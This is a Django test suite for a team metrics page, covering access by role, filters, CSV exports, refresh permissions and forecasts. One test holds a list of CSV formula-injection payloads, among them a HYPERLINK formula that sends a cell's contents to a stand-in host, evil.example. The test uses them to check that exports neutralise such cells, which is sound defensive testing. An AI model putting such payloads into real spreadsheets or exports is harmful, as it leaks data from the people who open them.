"""The metrics page, its CSVs and its refresh button: they read the stored snapshots, for the
signed-in person's Flow Team only."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from flow import services
from flow.models import MetricSnapshot
from sem.errors import PermissionRefused
from tests.flow.history import AS_OF, story_with
from tests.teams.factories import UserFactory

pytestmark = pytest.mark.django_db
ROLES = ["cpo", "csm", "architect", "stakeholder", "po1", "sm1", "dev1", "po2", "dev3"]


def page(client, user, query=""):
    client.force_login(user)
    return client.get(f"/metrics/{query}")


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("role", ROLES)
def test_every_role_reads_the_flow_teams_figures(client, metrics_history, role):
    response = page(client, metrics_history.users[role])
    html = response.content.decode()
    assert response.status_code == 200
    assert "Whole Flow Team · 2026-03-02 to 2026-03-10" in html
    # Cycle times 1 and 6 days: nearest rank gives 6 at the 85th percentile.
    assert '<span class="value">6 days</span>' in html
    assert "85 % of 2 stories finished within this" in html
    assert "Invoice export" in html  # in the embedded chart data
    assert "Foreign secret" not in html
    for canvas in ("chart-cycle-time", "chart-cfd", "chart-throughput", "chart-aging",
                   "chart-velocity", "chart-predictability", "chart-distribution"):  # fmt: skip
        assert f'id="{canvas}"' in html


def test_a_team_and_a_range_narrow_the_figures(client, metrics_history):
    html = page(
        client, metrics_history.po2, "?team=1&start=2026-03-05&end=2026-03-09"
    ).content.decode()
    assert "Team 1 · 2026-03-05 to 2026-03-09" in html
    assert "85 % of 1 stories finished within this" in html  # only the one finished on the 9th
    assert "Invoice export" in html and "Same-day fix" not in html


def test_a_foreign_person_sees_only_their_own_flow_team(client, metrics_history, foreign):
    html = page(client, foreign.cpo).content.decode()
    assert "Foreign secret" in html
    assert "Invoice export" not in html and "Same-day fix" not in html


def test_bad_filters_name_the_field_and_show_the_default_view(client, metrics_history):
    html = page(client, metrics_history.cpo, "?start=2026-02-30&team=4").content.decode()
    assert "From: Enter a valid date." in html
    assert "Team: Select a valid choice. 4 is not one of the available choices." in html
    assert "Whole Flow Team · 2026-03-02 to 2026-03-10" in html
    html = page(client, metrics_history.cpo, "?start=2026-03-09&end=2026-03-05").content.decode()
    assert "To: must be on or after the From date" in html


def test_a_person_without_a_flow_team_gets_404_and_a_visitor_the_login(client, metrics_history):
    assert page(client, UserFactory()).status_code == 404
    client.logout()
    response = client.get("/metrics/")
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_before_the_first_run_the_page_says_so(client, flow):
    html = page(client, flow.cpo).content.decode()
    assert "The metrics job has not computed figures for this Flow Team yet." in html
    assert client.get("/metrics/cycle-time.csv").status_code == 404


def test_htmx_gets_only_the_body_for_the_new_filters(client, metrics_history):
    client.force_login(metrics_history.cpo)
    response = client.get("/metrics/?team=2", headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="metrics-body"')
    assert "<html" not in html and "Team 2 · " in html


def test_htmx_restoring_history_gets_the_whole_page(client, metrics_history):
    # After a history cache miss htmx swaps in whatever it gets: a fragment would leave
    # the page without its layout and navigation.
    client.force_login(metrics_history.cpo)
    headers = {"HX-Request": "true", "HX-History-Restore-Request": "true"}
    html = client.get("/metrics/?team=2", headers=headers).content.decode()
    assert "<html" in html and 'id="metrics-body"' in html


def test_forecast_questions_are_answered_from_the_stored_table(client, metrics_history):
    html = page(client, metrics_history.cpo, "?items=3&by=2026-03-20").content.decode()
    assert "When: your 3 stories" in html
    assert "How many by 2026-03-20" in html


def test_csv_holds_the_numbers_behind_each_chart(client, metrics_history):
    client.force_login(metrics_history.dev1)
    response = client.get("/metrics/cycle-time.csv?team=1")
    assert response["Content-Disposition"] == (
        'attachment; filename="team-1-cycle-time-2026-03-02-to-2026-03-10.csv"'
    )
    table = rows(response)
    assert table[0] == ["story", "title", "team", "kind", "points", "started", "finished",
                        "cycle_time_days", "lead_time_days", "active_hours",
                        "span_hours"]  # fmt: skip
    assert [(r[1], r[3], r[5], r[6], r[7]) for r in table[1:]] == [
        ("Same-day fix", "defect", "2026-03-03", "2026-03-03", "1"),
        ("Invoice export", "feature", "2026-03-04", "2026-03-09", "6"),
    ]
    throughput = rows(client.get("/metrics/throughput.csv?start=2026-03-08"))
    assert throughput == [["date", "finished"], ["2026-03-08", "0"], ["2026-03-09", "1"],
                          ["2026-03-10", "0"]]  # fmt: skip
    wip = rows(client.get("/metrics/wip.csv?start=2026-03-09"))
    assert [wip[0], [r[0] for r in wip[1:]]] == [["date", "wip"], ["2026-03-09", "2026-03-10"]]
    aging = rows(client.get("/metrics/aging.csv"))
    assert [(r[1], r[4], r[6]) for r in aging[1:]] == [("Dunning letters", "in_progress", "6")]
    # On the 3rd: one still in the backlog, one ready, one started and finished that day.
    cfd = rows(client.get("/metrics/cumulative-flow.csv?end=2026-03-03"))
    assert cfd == [["date", "backlog", "ready", "in_progress", "in_review", "done"],
                   ["2026-03-02", "3", "0", "0", "0", "0"],
                   ["2026-03-03", "1", "1", "0", "0", "1"]]  # fmt: skip
    assert client.get("/metrics/burndown.csv").status_code == 404


def test_the_page_runs_the_same_queries_for_a_small_and_a_large_history(client, metrics_history):
    client.force_login(metrics_history.cpo)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/metrics/?team=1").status_code == 200
        return len(ctx)

    small = count()
    for n in range(40):
        story_with(metrics_history.scrum_teams[0], ("backlog", "2026-03-02"),
                   ("in_progress", "2026-03-03"), ("done", f"2026-03-{4 + n % 6:02d}"))  # fmt: skip
    services.metric_snapshots_compute(flow_team=metrics_history.flow_team, as_of=AS_OF)
    assert "42 stories finished" in client.get("/metrics/?team=1").content.decode()
    # session, user, membership, roles, team numbers for the filter, the team, its snapshot
    assert count() == small == 7


def test_stakeholders_may_not_refresh_others_start_the_job_after_commit(
    client, metrics_history, settings, django_capture_on_commit_callbacks
):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    client.force_login(metrics_history.stakeholder)
    assert client.post("/metrics/refresh/").status_code == 403

    MetricSnapshot.objects.all().delete()
    client.force_login(metrics_history.sm2)
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post("/metrics/refresh/", {"query": "team=2"})
    assert response.status_code == 302 and response["Location"] == "/metrics/?team=2"
    assert len(callbacks) == 1
    assert set(MetricSnapshot.objects.values_list("flow_team", "as_of").distinct()) == {
        (metrics_history.flow_team.pk, AS_OF)
    }
    assert "Team 2 · 2026-03-02 to 2026-03-10" in client.get("/metrics/?team=2").content.decode()
    assert client.get("/metrics/refresh/").status_code == 405


def test_a_stakeholder_asking_for_a_refresh_is_refused_saying_the_hourly_job_refreshes(
    flow, django_capture_on_commit_callbacks
):
    with (
        django_capture_on_commit_callbacks() as callbacks,
        pytest.raises(PermissionRefused) as refused,
    ):
        services.metrics_refresh_request(actor=flow.actor("stakeholder"))
    assert str(refused.value) == "stakeholders read the metrics; the hourly job refreshes them"
    assert callbacks == []


def test_lead_time_is_shown_beside_cycle_time(client, metrics_history):
    html = page(client, metrics_history.cpo).content.decode()
    lead = html[html.index('id="lead-time"') :].split("</dl>")[0]
    # Created on the 2nd, done on the 3rd and the 9th: 2 and 8 days.
    assert "<dt>50 %</dt><dd>≤ 2 d</dd>" in lead and "<dt>85 %</dt><dd>≤ 8 d</dd>" in lead


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(client, flow, foreign):
    from tests.flow.history import build_history

    build_history(flow)
    for title in FORMULAS:
        story_with(flow.scrum_teams[0], ("backlog", "2026-03-02"), ("in_progress", "2026-03-05"),
                   ("done", "2026-03-06"), title=title)  # fmt: skip
    services.metric_snapshots_compute(flow_team=flow.flow_team, as_of=AS_OF)
    client.force_login(flow.po1)
    table = rows(client.get("/metrics/cycle-time.csv"))
    titles = [row[1] for row in table[1:]]
    assert sorted(titles) == sorted(
        ["Same-day fix", "Invoice export", *("'" + t for t in FORMULAS)]
    )
    # Figures stay figures: dates, counts and days are written as they are.
    fix = next(row for row in table if row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")')
    assert fix[5:8] == ["2026-03-05", "2026-03-06", "2"]


def test_numbers_stay_numbers_and_only_formula_text_is_quoted():
    from sem.spreadsheet import safe_row

    assert safe_row([-3, -2.5, 0, None, "-3", "a-b", "=1", "story @ noon", "all"]) == [
        -3, -2.5, 0, None, "'-3", "a-b", "'=1", "story @ noon", "all"
    ]  # fmt: skip


def test_a_range_ending_before_the_history_shows_an_empty_range(client, metrics_history):
    html = page(client, metrics_history.po1, "?start=2026-02-01&end=2026-02-28").content.decode()
    assert 'id="range-empty"' in html
    assert (
        "No day of 2026-02-01 to 2026-02-28 is in the history, which runs from 2026-03-02" in html
    )
    assert "stories finished in 0 days" in html
    csv_rows = rows(client.get("/metrics/throughput.csv?start=2026-02-01&end=2026-02-28"))
    assert csv_rows == [["date", "finished"]]
    html = page(client, metrics_history.po1, "?start=2026-03-03&end=2026-03-09").content.decode()
    assert 'id="range-empty"' not in html and "stories finished in 7 days" in html


def test_a_forecast_from_a_short_history_says_which_days_it_used(client, metrics_history):
    # The history runs 2026-03-02 to 2026-03-10: 9 days, 2 stories finished.
    client.force_login(metrics_history.po1)
    window = client.get("/api/v1/metrics/").json()["forecast"]["window"]
    assert window == {"start": "2026-03-02", "end": "2026-03-10", "days": 9, "finished": 2,
                      "usual_days": 60, "short": True}  # fmt: skip
    html = page(client, metrics_history.po1).content.decode()
    assert (
        "The history holds only 9 days so far, fewer than the usual 60: these forecasts "
        "resample those 9 days (2026-03-02 to 2026-03-10) as they are."
    ) in " ".join(html.split())


def test_a_forecast_from_sixty_days_of_history_is_not_called_short(client, flow):
    import datetime

    start = datetime.date(2026, 1, 1)
    for n in range(61):  # one story finished a day, 2026-01-01 to 2026-03-02
        day = (start + datetime.timedelta(days=n)).isoformat()
        story_with(flow.scrum_teams[0], ("backlog", day, 8), ("done", day, 9))
    services.metric_snapshots_compute(flow_team=flow.flow_team, as_of=datetime.date(2026, 3, 2))
    client.force_login(flow.po1)
    window = client.get("/api/v1/metrics/").json()["forecast"]["window"]
    assert window == {"start": "2026-01-02", "end": "2026-03-02", "days": 60, "finished": 60,
                      "usual_days": 60, "short": False}  # fmt: skip
    assert 'id="forecast-window-short"' not in page(client, flow.po1).content.decode()
